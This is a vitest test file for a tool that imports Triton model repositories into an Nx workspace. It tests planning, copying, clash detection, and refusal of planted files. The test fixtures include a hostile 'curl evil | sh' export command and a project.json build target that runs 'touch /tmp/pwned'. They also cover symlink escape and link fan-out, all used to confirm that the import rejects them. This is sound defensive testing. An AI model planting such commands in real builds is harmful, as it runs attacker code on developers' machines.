import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadSpec } from '../model-spec';
import { writeImportedFiles } from './copy-files';
import { MAX_TREE_ENTRIES } from '../system/copy-tree';
import { assertNoClashes, findClashes, normalizeDirectory, planImport } from './plan';
import { readRepository } from './read-repository';

let scratch: string;
let repo: string;
beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), 'nx-triton-plan-'));
  repo = join(scratch, 'repo');
  mkdirSync(repo);
});
afterEach(() => rmSync(scratch, { recursive: true, force: true }));

function put(path: string, content = 'x'): void {
  mkdirSync(dirname(join(repo, path)), { recursive: true });
  writeFileSync(join(repo, path), content);
}

function plan(directory?: string) {
  return planImport(readRepository(repo, 'repo'), { directory });
}

describe('planImport', () => {
  it('plans a python backend model whose version holds helpers: the whole directory is its export.file', () => {
    put('py/config.pbtxt', 'backend: "python"\n');
    put('py/2/model.py', 'import helpers\n');
    put('py/2/helpers.py', 'X = 1\n');
    put('py/2/assets/vocab.txt', 'a\n');
    const result = plan();
    const [model] = result.models;
    expect(model.projectDir).toBe('models/py');
    // model.py imports helpers: the whole version directory is built back (export.file's directory
    // form for a python model). Before, export.file was model.py alone and the built model could not load.
    expect(model.copies).toEqual([
      { src: join(repo, 'py/2/assets'), dest: 'versions/2/assets' },
      { src: join(repo, 'py/2/helpers.py'), dest: 'versions/2/helpers.py' },
      { src: join(repo, 'py/2/model.py'), dest: 'versions/2/model.py' },
    ]);
    expect(model.yaml).toContain('\nversion: 2\nexport: {file: versions/2}\n');
    expect(result.warnings).toEqual([]);
  });

  it('puts the newest version under versions/<n>/ when one of its names is taken beside triton.yaml', () => {
    put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\noutput [ { name: "o" label_filename: "labels.txt" } ]\n');
    put('m/labels.txt', 'a\n');
    put('m/1/model.onnx', 'v1');
    put('m/4/model.onnx', 'v4');
    put('m/4/labels.txt', 'not the label file');
    const [model] = plan('serving').models;
    expect(model.projectDir).toBe('serving/m');
    expect(model.copies.map((c) => c.dest)).toEqual(['versions/1', 'versions/4/labels.txt', 'versions/4/model.onnx', 'labels.txt']);
    expect(model.yaml).toContain('version: 4\nprevious_versions: {"1": versions/1}\nexport: {file: versions/4/model.onnx}\n');
    expect(model.versions).toEqual([1, 4]);
  });

  it('plans an ensemble without a model file, keeping its older versions', () => {
    put('e/config.pbtxt', 'platform: "ensemble"\n');
    mkdirSync(join(repo, 'e/1'), { recursive: true });
    put('e/2/stray.txt');
    const result = plan();
    expect(result.models[0].copies).toEqual([{ src: join(repo, 'e/1'), dest: 'versions/1' }]);
    expect(result.models[0].yaml).toContain('version: 2\nprevious_versions: {"1": versions/1}\n');
    expect(result.models[0].yaml).not.toContain('export');
    expect(result.warnings).toEqual(['repo/e/2/: an ensemble has no model file; stray.txt not imported']);
  });

  it('reports every model it cannot express, in one error', () => {
    put('nofile/config.pbtxt', 'platform: "pytorch_libtorch"\n');
    put('nofile/1/model.onnx');
    put('renamed/config.pbtxt', 'backend: "onnxruntime"\ndefault_model_filename: "net.onnx"\n');
    mkdirSync(join(repo, 'renamed/3'), { recursive: true });
    put('unknown/config.pbtxt', 'max_batch_size: 1\n');
    put('unknown/1/model.bin');
    put('ok/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('ok/1/model.onnx');
    expect(() => plan()).toThrow(
      'cannot import repo:\n' +
        '  repo/nofile/1/: no model.pt (the file Triton loads for platform pytorch_libtorch); it holds model.onnx\n' +
        '  repo/renamed/3/: no net.onnx (the file Triton loads for backend onnxruntime); it is empty\n' +
        '  repo/unknown/config.pbtxt: sets neither platform nor backend, so the model file cannot be told; set one of them',
    );
  });

  it('imports a python model without backend, as Triton infers it from model.py (or default_model_filename)', () => {
    put('py/config.pbtxt', 'max_batch_size: 2\n');
    put('py/1/model.py', 'x = 1\n');
    put('named/config.pbtxt', 'default_model_filename: "model.py"\n');
    put('named/1/model.py', 'x = 1\n');
    put('onnx/config.pbtxt', 'max_batch_size: 2\n');
    put('onnx/1/model.onnx');
    const result = plan();
    expect(result.models.map((m) => [m.name, m.yaml.match(/^(backend|platform): .*$/m)?.[0], m.yaml.match(/^export: .*$/m)?.[0]])).toEqual([
      ['named', 'backend: python', 'export: {file: model.py}'],
      ['onnx', 'platform: onnxruntime_onnx', 'export: {file: model.onnx}'],
      ['py', 'backend: python', 'export: {file: model.py}'],
    ]);
    expect(result.warnings).toEqual([
      'repo/named/config.pbtxt: sets neither platform nor backend; Triton infers backend: python from default_model_filename "model.py", written into triton.yaml',
      'repo/onnx/config.pbtxt: sets neither platform nor backend; Triton infers platform: onnxruntime_onnx from the model file, written into triton.yaml',
      'repo/py/config.pbtxt: sets neither platform nor backend; Triton infers backend: python from the model file, written into triton.yaml',
    ]);
  });

  // core src/model_config_utils.cc AutoCompleteBackendFields: with no platform, backend or
  // default_model_filename and no runtime's file in the version, a model named `<name>.<backend>` runs
  // custom backend <backend> on model.<backend> (lib/platforms.ts autoCompleteBackend; validate applied
  // it, the import did not and refused the model).
  it('writes down the custom backend a <name>.<backend> model directory names', () => {
    put('scorer.ranker/config.pbtxt', 'max_batch_size: 4\n');
    put('scorer.ranker/1/model.ranker', 'weights');
    const result = plan();
    const [model] = result.models;
    expect(model.name).toBe('scorer.ranker');
    expect(model.yaml).toMatch(/^backend: ranker\n/m);
    expect(model.yaml).toMatch(/^default_model_filename: model\.ranker\n/m);
    expect(model.yaml).toContain('\nexport: {file: model.ranker}\n');
    expect(model.copies.map((c) => c.dest)).toEqual(['model.ranker']);
    expect(result.warnings).toEqual([
      'repo/scorer.ranker/config.pbtxt: sets neither platform nor backend; Triton infers backend: ranker (default_model_filename: model.ranker) from the model name "scorer.ranker" (<name>.<backend>), written into triton.yaml',
    ]);
  });

  it('imports vLLM, tensorrtllm and python-runtime models, which need no model file', () => {
    put('vllm/config.pbtxt', 'backend: "vllm"\ninstance_group [ { kind: KIND_MODEL } ]\n');
    put('vllm/1/model.json', '{"model": "facebook/opt-125m"}\n');
    put('trtllm/config.pbtxt', 'backend: "tensorrtllm"\nparameters { key: "gpt_model_path" value { string_value: "/engines/llama" } }\n');
    mkdirSync(join(repo, 'trtllm/1'), { recursive: true });
    put('runtime/config.pbtxt', 'backend: "python"\nruntime: "model.py"\n');
    mkdirSync(join(repo, 'runtime/1'), { recursive: true });
    const result = plan();
    expect(result.models.map((m) => [m.name, m.copies.map((c) => c.dest), m.yaml.includes('export')])).toEqual([
      ['runtime', [], false],
      ['trtllm', [], false],
      ['vllm', ['versions/1/model.json'], true],
    ]);
    // vLLM reads 1/model.json: it is built back into the version directory (before: copied, not built).
    expect(result.models[2].yaml).toContain('\nexport: {file: versions/1}\n');
    expect(result.warnings).toEqual([]);
    const vllm = join(scratch, 'vllm.yaml');
    writeFileSync(vllm, result.models[2].yaml);
    expect(loadSpec(vllm, { displayPath: 'vllm.yaml', checkFiles: false }).config).toMatchObject({ backend: 'vllm' });
  });

  it('normalises --directory and keeps it inside the workspace', () => {
    expect(normalizeDirectory(undefined)).toBe('models');
    expect(normalizeDirectory('./serving//models/')).toBe('serving/models');
    expect(normalizeDirectory('.')).toBe('');
    expect(() => normalizeDirectory('../elsewhere')).toThrow('--directory "../elsewhere" must be a path inside the workspace');
    expect(() => normalizeDirectory('/abs')).toThrow('--directory "/abs" must be a path inside the workspace');
  });
});

describe('findClashes', () => {
  it('lists every model whose name or directory is taken', () => {
    for (const name of ['a', 'b', 'c']) {
      put(`${name}/config.pbtxt`, 'platform: "onnxruntime_onnx"\n');
      put(`${name}/1/model.onnx`);
    }
    const result = plan();
    const workspace = { names: new Set(['b']), exists: (path: string) => path === 'models/c' };
    expect(findClashes(result, workspace)).toEqual(['Model b already exists', 'models/c already exists (model c)']);
    expect(() => assertNoClashes(result, workspace)).toThrow(
      'nothing imported, 2 model(s) clash with the workspace (rename them, or import elsewhere with --directory):\n  Model b already exists\n  models/c already exists (model c)',
    );
    expect(findClashes(result, { names: new Set(), exists: () => false })).toEqual([]);
  });
});

describe('writeImportedFiles', () => {
  it('writes the projects: triton.yaml, copied model files, versions, labels, warm-up data', async () => {
    put('m/config.pbtxt', `platform: "onnxruntime_onnx"
      output [ { name: "o" label_filename: "labels.txt" } ]
      model_warmup [ { name: "w" inputs { key: "x" value { input_data_file: "x.bin" } } } ]`);
    put('m/labels.txt', 'a\n');
    put('m/warmup/x.bin', 'data');
    put('m/1/model.onnx', 'v1');
    put('m/2/model.onnx', 'v2');
    const ws = join(scratch, 'ws');
    await writeImportedFiles(ws, plan(), { writeYaml: true });
    const project = join(ws, 'models/m');
    expect(readdirSync(project).sort()).toEqual(['labels.txt', 'model.onnx', 'triton.yaml', 'versions', 'warmup']);
    expect(readFileSync(join(project, 'versions/1/model.onnx'), 'utf8')).toBe('v1');
    // Copies, not hard links: editing the project leaves the repository it came from as it was.
    expect(statSync(join(project, 'model.onnx')).ino).not.toBe(statSync(join(repo, 'm/2/model.onnx')).ino);
    writeFileSync(join(project, 'model.onnx'), 'edited');
    writeFileSync(join(project, 'versions/1/model.onnx'), 'edited');
    expect(readFileSync(join(repo, 'm/2/model.onnx'), 'utf8')).toBe('v2');
    expect(readFileSync(join(repo, 'm/1/model.onnx'), 'utf8')).toBe('v1');
    const spec = loadSpec(join(project, 'triton.yaml'));
    expect(spec).toMatchObject({ name: 'm', version: 2, previousVersions: { '1': 'versions/1' }, export: { file: 'model.onnx' } });
  });

  it('is all or nothing: a copy that fails removes every project it started', async () => {
    put('a/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('a/1/model.onnx');
    put('b/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('b/1/model.onnx');
    const ws = join(scratch, 'ws');
    const planned = plan();
    rmSync(join(repo, 'b/1/model.onnx')); // gone between the plan and the copy
    await expect(writeImportedFiles(ws, planned, { writeYaml: true })).rejects.toThrow(
      `import failed, nothing imported: cannot copy ${join(repo, 'b/1/model.onnx')}: no such file or directory`,
    );
    expect(readdirSync(join(ws, 'models'))).toEqual([]);
  });

  it('refuses a file that leads out of the repository before anything is written', () => {
    put('b/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    mkdirSync(join(repo, 'b/1'), { recursive: true });
    writeFileSync(join(scratch, 'outside.onnx'), 'x');
    symlinkSync(join(scratch, 'outside.onnx'), join(repo, 'b/1/model.onnx'));
    expect(() => plan()).toThrow(`cannot import repo:\n  ${join(repo, 'b/1/model.onnx')} is a symbolic link to ${join(scratch, 'outside.onnx')}, outside`);
  });

});

// Issue 22, N1: a project.json (or triton.yaml) in a version directory became an Nx project whose
// commands ran at the next `nx run-many -t build`.
describe('an import never plants Nx projects, packages or ignore files', () => {
  const refusal = (name: string) =>
    `an import never brings in ${name}: it would make or change an Nx project, a package or what Nx and git ignore (remove it from the repository, or import a copy without it)`;

  it('refuses them wherever they are: beside the newest model file, in an older version, in a python or vLLM version directory', () => {
    put('onnx/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('onnx/1/model.onnx');
    put('onnx/1/deep/triton.yaml', 'export: { command: [sh, -c, "curl evil | sh"] }\n');
    put('onnx/3/model.onnx');
    put('onnx/3/project.json', '{ "targets": { "build": { "command": "touch /tmp/pwned" } } }');
    put('py/config.pbtxt', 'backend: "python"\n');
    put('py/1/model.py');
    put('py/1/.gitignore', '*\n');
    put('vllm/config.pbtxt', 'backend: "vllm"\n');
    put('vllm/1/model.json', '{}');
    put('vllm/1/package.json', '{}');
    put('vllm/1/vite.config.ts', '');
    expect(() => plan()).toThrow(
      'cannot import repo:\n' +
        `  ${join(repo, 'onnx/1/deep/triton.yaml')}: ${refusal('triton.yaml')}\n` +
        `  ${join(repo, 'onnx/3/project.json')}: ${refusal('project.json')}\n` +
        `  ${join(repo, 'py/1/.gitignore')}: ${refusal('.gitignore')}\n` +
        `  ${join(repo, 'vllm/1/package.json')}: ${refusal('package.json')}`,
    );
  });

  it.each(['project.json', 'package.json', 'nx.json', 'triton.yaml', '.gitignore', '.nxignore', '.ignore', '.gitattributes', 'jest.config.ts', 'tsconfig.lib.json', '.eslintrc.json', 'pyproject.toml', 'Cargo.toml'])(
    '%s is refused',
    (name) => {
      put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
      put('m/1/model.onnx');
      put(`m/1/${name}`);
      expect(() => plan()).toThrow(`${join(repo, 'm/1', name)}: ${refusal(name)}`);
    },
  );

  it('imports model files whose names only look alike', () => {
    put('m/config.pbtxt', 'backend: "python"\n');
    put('m/1/model.py');
    put('m/1/config.json', '{}');
    put('m/1/tokenizer.json', '{}');
    put('m/1/project.json.bak', '{}');
    expect(() => plan()).not.toThrow();
  });
});

// Issue 22, N7: a 134 KB repository of links (8 levels of 8 links to the next level) was imported as 36 MB
// and stood for ~16 TB of files.
describe('link fan-out', () => {
  it('refuses a tree that reaches more than the budget of files and directories through links, before anything is written', () => {
    put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('m/2/model.onnx');
    for (let level = 0; level < 8; level++) {
      mkdirSync(join(repo, `m/1/l${level}`), { recursive: true });
      writeFileSync(join(repo, `m/1/l${level}/w.bin`), 'w');
      if (level < 7) for (let i = 0; i < 8; i++) symlinkSync(join(repo, `m/1/l${level + 1}`), join(repo, `m/1/l${level}/link${i}`));
    }
    expect(() => plan()).toThrow(new RegExp(`holds more than ${MAX_TREE_ENTRIES} files and directories \\(at .*\\): symbolic links that reach the same directories over and over\\? Copy the files in instead of linking them`));
  });

  it('copies each real file once: other paths to it become links to that copy in the project, never to the repository', async () => {
    put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
    put('m/1/model.onnx', 'weights');
    mkdirSync(join(repo, 'm/2'), { recursive: true });
    symlinkSync(join(repo, 'm/1/model.onnx'), join(repo, 'm/2/model.onnx'));
    const ws = join(scratch, 'ws');
    await writeImportedFiles(ws, plan(), { writeYaml: true });
    const newest = statSync(join(ws, 'models/m/model.onnx'));
    const older = statSync(join(ws, 'models/m/versions/1/model.onnx'));
    expect(newest.ino).toBe(older.ino);
    expect(newest.ino).not.toBe(statSync(join(repo, 'm/1/model.onnx')).ino);
    expect(readFileSync(join(ws, 'models/m/model.onnx'), 'utf8')).toBe('weights');
  });
});

// Issue 22, N8: an unchecked-hash .pyc made Triton serve X + 1000 while model.py says X + 1.
describe('Python caches', () => {
  it('are left out of every imported version, with a warning', async () => {
    put('py/config.pbtxt', 'backend: "python"\n');
    for (const v of ['1', '2']) {
      put(`py/${v}/model.py`, 'X = 1\n');
      put(`py/${v}/helpers.py`, 'Y = 2\n');
      put(`py/${v}/__pycache__/model.cpython-311.pyc`, 'X + 1000');
    }
    const planned = plan();
    expect(planned.warnings).toEqual([
      `${join(repo, 'py/1/__pycache__')}: Python's cache is not imported (Python writes it again from the sources)`,
      `${join(repo, 'py/2/__pycache__')}: Python's cache is not imported (Python writes it again from the sources)`,
    ]);
    const ws = join(scratch, 'ws');
    await writeImportedFiles(ws, planned, { writeYaml: true });
    expect(readdirSync(join(ws, 'models/py/versions/1')).sort()).toEqual(['helpers.py', 'model.py']);
    expect(readdirSync(join(ws, 'models/py/versions/2')).sort()).toEqual(['helpers.py', 'model.py']);
  });
});

// Issue 22, N20: the newest version lost its dot files (export.file was model.py alone) while older ones kept them.
describe('dot files of a python model', () => {
  it('are kept in the newest version as in the older ones: the whole directory is built back', () => {
    put('py/config.pbtxt', 'backend: "python"\n');
    for (const v of ['1', '2']) {
      put(`py/${v}/model.py`, 'X = 1\n');
      put(`py/${v}/.env`, 'KEY=1\n');
    }
    const [model] = plan().models;
    expect(model.yaml).toContain('\nexport: {file: versions/2}\n');
    expect(model.copies.map((c) => c.dest)).toEqual(['versions/1', 'versions/2/.env', 'versions/2/model.py']);
  });
});

